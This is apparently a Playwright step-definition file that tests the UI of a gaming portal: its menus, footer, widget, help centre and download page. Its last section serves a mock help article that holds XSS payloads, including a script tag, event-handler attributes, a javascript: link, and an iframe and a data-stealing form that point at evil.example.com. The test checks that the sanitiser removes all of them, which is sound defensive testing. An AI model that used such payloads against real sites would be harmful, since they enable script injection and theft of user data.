import { expect, type Locator, type Page } from '@playwright/test';
import { Given, Then, When } from '../support/fixtures';
import { watchForHostileScript } from './notices.steps';

const list = (text: string) =>
  text
    .split(',')
    .map((s) => s.trim())
    .filter(Boolean);

const sideMenu = (page: Page) => page.getByRole('navigation', { name: 'Side menu' });
const footer = (page: Page) => page.getByRole('contentinfo', { name: 'Site footer' });
const widget = (page: Page) => page.getByRole('complementary', { name: 'Service widget' });
const widgetToggle = (page: Page) =>
  widget(page).getByRole('button', { name: 'Service menu', exact: true });
/** The side bar's collapse toggle: named after what it does, aria-expanded tells the state. */
const sideToggle = (page: Page) =>
  sideMenu(page).getByRole('button', { name: /^(Collapse|Expand) the side menu$/ });
const providers = (page: Page, category: string) =>
  sideMenu(page).getByRole('list', { name: `${category} providers`, exact: true });

/** A button or link of `scope` by its exact accessible name (buttons first). */
const entry = (scope: Locator, name: string) =>
  scope
    .getByRole('button', { name, exact: true })
    .or(scope.getByRole('link', { name, exact: true }))
    .first();

/** The buttons of `scope` carry exactly these accessible names, in this order. */
async function expectNames(buttons: Locator, names: string[]) {
  await expect(buttons).toHaveCount(names.length);
  for (const [i, name] of names.entries()) await expect(buttons.nth(i)).toHaveAccessibleName(name);
}

// ---- side bar ----

When('I choose the side menu entry {string}', async ({ page }, name: string) => {
  await entry(sideMenu(page), name).click();
});

When('I press {string} in the side menu', async ({ page }, name: string) => {
  await sideMenu(page).getByRole('button', { name, exact: true }).click();
});

When('I open the side menu providers of {string}', async ({ page }, category: string) => {
  const toggle = sideMenu(page).getByRole('button', { name: `${category} providers`, exact: true });
  await toggle.click();
  await expect(toggle).toHaveAttribute('aria-expanded', 'true');
});

When(
  'I choose the side menu provider {string} of {string}',
  async ({ page }, name: string, category: string) => {
    await providers(page, category).getByRole('button', { name, exact: true }).click();
  },
);

Then('the side menu lists the game categories {string}', async ({ page }, names: string) => {
  const games = sideMenu(page).getByRole('list', { name: 'Games', exact: true });
  // The category entries, without their "<category> providers" toggles.
  await expectNames(games.getByRole('button', { name: /^(?!.* providers$)/ }), list(names));
});

Then('the side menu lists no game categories', async ({ page }) => {
  await expect(sideMenu(page)).toBeVisible();
  await expect(
    sideMenu(page)
      .getByRole('button', { name: 'Home', exact: true })
      .or(sideMenu(page).getByRole('link', { name: 'Home', exact: true })),
  ).toBeVisible();
  await expect(sideMenu(page).getByRole('list', { name: 'Games', exact: true })).toHaveCount(0);
  await expect(sideMenu(page).getByRole('button', { name: / providers$/ })).toHaveCount(0);
});

Then(
  'the side menu providers of {string} are {string}',
  async ({ page }, category: string, names: string) => {
    await expectNames(providers(page, category).getByRole('button'), list(names));
  },
);

Then('the side menu offers {string}', async ({ page }, name: string) => {
  await expect(entry(sideMenu(page), name)).toBeVisible();
});

Then(/^the side menu offers (no|\d+) languages$/, async ({ page }, count: string) => {
  const select = sideMenu(page).getByRole('combobox', { name: 'Language' });
  if (count === 'no') {
    await expect(sideMenu(page)).toBeVisible();
    await expect(select).toHaveCount(0);
    return;
  }
  await expect(select).toBeVisible();
  await expect(select.getByRole('option')).toHaveCount(Number(count));
});

Then(/^the side menu is (collapsed|expanded)$/, async ({ page }, state: string) => {
  const toggle = sideToggle(page);
  await expect(toggle).toHaveAttribute('aria-expanded', state === 'expanded' ? 'true' : 'false');
  await expect(toggle).toHaveAccessibleName(
    state === 'expanded' ? 'Collapse the side menu' : 'Expand the side menu',
  );
});

Then('the side menu shows the QR code {string}', async ({ page }, name: string) => {
  const qr = sideMenu(page).getByRole('img', { name, exact: true });
  await expect(qr).toBeVisible();
});

Then('the side menu shows no QR code', async ({ page }) => {
  await expect(sideMenu(page)).toBeVisible();
  await expect(sideMenu(page).getByRole('img', { name: /QR code/ })).toHaveCount(0);
});

Then('the side menu links {string} to {string}', async ({ page }, name: string, href: string) => {
  const link = sideMenu(page).getByRole('link', { name, exact: true });
  await expect(link).toHaveAttribute('href', href);
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', /noopener/);
});

Then('the shell shows the dialog {string}', async ({ page }, name: string) => {
  await expect(page.getByRole('dialog', { name, exact: true })).toBeVisible();
});

Then('the shell shows the message box {string}', async ({ page }, text: string) => {
  await expect(page.getByRole('dialog').filter({ hasText: text })).toBeVisible();
});

// ---- footer ----

Then('the site footer has the blocks {string}', async ({ page }, names: string) => {
  for (const name of list(names)) {
    await expect(footer(page).getByRole('heading', { level: 2, name, exact: true })).toBeVisible();
  }
});

Then('the site footer lists the game provider {string}', async ({ page }, name: string) => {
  const strip = footer(page).getByRole('list', { name: 'Game providers', exact: true });
  await expect(
    strip.getByRole('listitem').filter({ hasText: new RegExp(`^${name}$`) }),
  ).toHaveCount(1);
});

Then('the site footer lists no game providers', async ({ page }) => {
  await expect(footer(page)).toBeVisible();
  await expect(footer(page).getByRole('heading', { name: 'Game providers' })).toHaveCount(0);
  await expect(footer(page).getByRole('list', { name: 'Game providers' })).toHaveCount(0);
});

Then('the site footer shows the copyright line', async ({ page }) => {
  const year = await page.evaluate(() => new Date().getFullYear());
  await expect(
    footer(page).getByText(`© ${year} Lucky Portal. All rights reserved.`),
  ).toBeVisible();
});

When('I follow the link {string} in the site footer', async ({ page }, name: string) => {
  await footer(page).getByRole('link', { name, exact: true }).click();
});

// ---- floating service widget ----

When('I toggle the service widget', async ({ page }) => {
  await widgetToggle(page).click();
});

Then(/^the service widget menu is (open|closed)$/, async ({ page }, state: string) => {
  await expect(widgetToggle(page)).toHaveAttribute(
    'aria-expanded',
    state === 'open' ? 'true' : 'false',
  );
  const appDownload = widget(page).getByRole('link', { name: 'App download', exact: true });
  if (state === 'open') await expect(appDownload).toBeVisible();
  else await expect(appDownload).toHaveCount(0);
});

Then('the service widget offers {string}', async ({ page }, name: string) => {
  await expect(entry(widget(page), name)).toBeVisible();
});

Then(
  'the service widget links {string} to {string}',
  async ({ page }, name: string, href: string) => {
    const link = widget(page).getByRole('link', { name, exact: true });
    await expect(link).toHaveAttribute('href', href);
    await expect(link).toHaveAttribute('rel', /noopener/);
  },
);

When('I choose {string} in the service widget', async ({ page }, name: string) => {
  await entry(widget(page), name).click();
});

// ---- help centre ----

Then('the help centre lists the topics {string}', async ({ page }, names: string) => {
  await expectNames(
    page.getByRole('navigation', { name: 'Topics', exact: true }).getByRole('button'),
    list(names),
  );
});

When('I choose the help topic {string}', async ({ page }, name: string) => {
  await page
    .getByRole('navigation', { name: 'Topics', exact: true })
    .getByRole('button', { name, exact: true })
    .click();
});

Then('the help article {string} is shown', async ({ page }, title: string) => {
  const article = page.getByRole('article', { name: title, exact: true });
  await expect(article).toBeVisible();
  await expect(article.getByRole('heading', { level: 2, name: title, exact: true })).toBeVisible();
  await expect(
    page
      .getByRole('navigation', { name: 'Topics', exact: true })
      .getByRole('button', { name: title, exact: true }),
  ).toHaveAttribute('aria-current', 'true');
});

// ---- app download page ----

Then(
  'the download page shows the QR code {string} sized {int} px with a {int} px margin',
  async ({ page }, name: string, size: number, margin: number) => {
    const qr = page.getByRole('main').getByRole('img', { name, exact: true });
    await expect(qr).toBeVisible();
    // The code itself, and the white frame around it that is its quiet zone.
    const inner = await qr.boundingBox();
    const frame = await qr.locator('xpath=..').boundingBox();
    expect(inner && frame).toBeTruthy();
    expect(Math.round(frame!.width)).toBe(size);
    expect(Math.round(frame!.height)).toBe(size);
    expect(Math.round(inner!.x - frame!.x)).toBe(margin);
    expect(Math.round(inner!.y - frame!.y)).toBe(margin);
    expect(Math.round(inner!.width)).toBe(size - 2 * margin);
    const background = await qr
      .locator('xpath=..')
      .evaluate((el) => getComputedStyle(el).backgroundColor);
    expect(background).toBe('rgb(255, 255, 255)');
  },
);

Then(
  'the download page links {string} to {string}',
  async ({ page }, name: string, href: string) => {
    await expect(page.getByRole('main').getByRole('link', { name, exact: true })).toHaveAttribute(
      'href',
      href,
    );
  },
);

Then(
  'the download page has the install guide {string} with the steps {string}',
  async ({ page }, guide: string, steps: string) => {
    const region = page.getByRole('main').getByRole('region', { name: guide, exact: true });
    await expect(region.getByRole('heading', { name: guide, exact: true })).toBeVisible();
    const items = region.getByRole('listitem');
    const expected = steps.split('|').map((s) => s.trim());
    await expect(items).toHaveText(expected);
  },
);

// ---- what the mock serves: vendor lanes, resources, help articles ----

Given('the game category {string} has no vendors', async ({ mock }, code: string) => {
  await mock.patch({ vendorLanes: { emptied: [code] } });
});

Given('the server leaves out the game category {string}', async ({ mock }, code: string) => {
  await mock.patch({ vendorLanes: { drop: [code] } });
});

Given('the site offers no resources', async ({ mock }) => {
  await mock.patch({ resources: { replace: [] } });
});

Given('the site offers only the resources {string}', async ({ mock }, types: string) => {
  const keep = new Set(list(types));
  const all = [
    'Android',
    'MOBILECONFIG',
    'TELEGRAM',
    'FACEBOOK',
    'INSTAGRAM',
    'SpeedTest',
    'AFFILIATELINK',
  ];
  await mock.patch({ resources: { drop: all.filter((t) => !keep.has(t)) } });
});

Then('the side menu does not link {string}', async ({ page }, name: string) => {
  await expect(sideMenu(page).getByRole('link', { name: 'Home', exact: true })).toBeVisible();
  await expect(sideMenu(page).getByRole('link', { name, exact: true })).toHaveCount(0);
});

Then('the side menu has no social links', async ({ page }) => {
  await expect(sideMenu(page).getByRole('link', { name: 'Home', exact: true })).toBeVisible();
  await expect(sideMenu(page).getByRole('list', { name: 'Follow us', exact: true })).toHaveCount(0);
});

Then('the side menu does not show the QR code {string}', async ({ page }, name: string) => {
  await expect(
    sideMenu(page)
      .getByRole('img', { name: /QR code/ })
      .first(),
  ).toBeVisible();
  await expect(sideMenu(page).getByRole('img', { name, exact: true })).toHaveCount(0);
});

Then('the side menu says {string}', async ({ page }, text: string) => {
  await expect(sideMenu(page).getByText(text, { exact: true })).toBeVisible();
});

Then('the service widget does not offer {string}', async ({ page }, name: string) => {
  await expect(widget(page).getByRole('link', { name: 'App download', exact: true })).toBeVisible();
  await expect(widget(page).getByRole('link', { name, exact: true })).toHaveCount(0);
});

// ---- a hostile help article ----

Given('the help centre serves a hostile article', async ({ page, mock, memo }) => {
  await mock.patch({
    helpCenter: [
      {
        id: 1,
        title: 'Hostile article',
        content:
          `<p>Safe text</p><script>alert('xss-help-script')</script>` +
          `<img src="/cdn-a/none.png" onerror="alert('xss-help-onerror')">` +
          `<p onclick="alert('xss-help-click')">Tap to see the rules</p>` +
          `<a href="javascript:alert('xss-help-link')">click here</a>` +
          `<a href="https://example.com/ok">good link</a>` +
          `<iframe src="https://evil.example.com/frame"></iframe>` +
          `<svg onload="alert('xss-help-svg')"><circle r="4"/></svg>` +
          `<form action="https://evil.example.com/steal"><input name="p"><button>Send</button></form>`,
        category: 'policy',
      },
    ],
  });
  watchForHostileScript(page, memo);
});

When('I click what the help article offers', async ({ page }) => {
  const article = page.getByRole('article', { name: 'Hostile article', exact: true });
  await expect(article.getByText('Safe text', { exact: true })).toBeVisible();
  await article.getByText('click here', { exact: true }).click();
  await article.getByText('Tap to see the rules', { exact: true }).click();
});

Then('the help article ran no script and keeps its safe parts', async ({ page, memo }) => {
  const article = page.getByRole('article', { name: 'Hostile article', exact: true });
  await expect(article.getByRole('link', { name: 'good link', exact: true })).toHaveAttribute(
    'href',
    'https://example.com/ok',
  );
  await expect(article.getByRole('link', { name: 'good link', exact: true })).toHaveAttribute(
    'rel',
    'noopener noreferrer',
  );
  const active = await article.evaluate((el) => ({
    elements: el.querySelectorAll('script, iframe, svg, form, input, button, object, embed').length,
    handlers: [...el.querySelectorAll('*')].filter((n) =>
      [...n.attributes].some((a) => /^on/i.test(a.name)),
    ).length,
    scriptLinks: [...el.querySelectorAll('[href], [src]')].filter((n) =>
      /^\s*(javascript|data):/i.test(n.getAttribute('href') ?? n.getAttribute('src') ?? ''),
    ).length,
  }));
  expect(active).toEqual({ elements: 0, handlers: 0, scriptLinks: 0 });
  expect(memo.get('alerts')).toEqual([]);
  expect(memo.get('strangers')).toEqual([]);
});
